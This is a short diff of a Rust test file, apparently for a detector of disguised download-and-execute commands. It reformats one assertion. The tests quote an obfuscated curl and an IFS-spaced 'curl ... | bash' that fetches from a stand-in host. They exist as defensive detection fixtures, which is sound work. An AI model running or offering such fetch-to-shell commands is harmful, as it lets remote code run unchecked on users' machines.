@@ -346,7 +346,9 @@ fn disguised_fetchers_without_a_literal_name_are_critical() {
     // Near miss: the same words, nothing fetched into a shell.
     assert_absent("```bash\nc\\ur\\l -s https://x.example/fix -o fix.txt\n```\n", "code.normalized-command");
     // Explained, not run: a warning lowers it.
-    assert_not_flagged("Never run `curl${IFS}-s${IFS}https://x.example/p|bash`: the IFS trick hides the spaces.\n");
+    assert_not_flagged(
+        "Never run `curl${IFS}-s${IFS}https://x.example/p|bash`: the IFS trick hides the spaces.\n",
+    );
 }
 
 #[test]
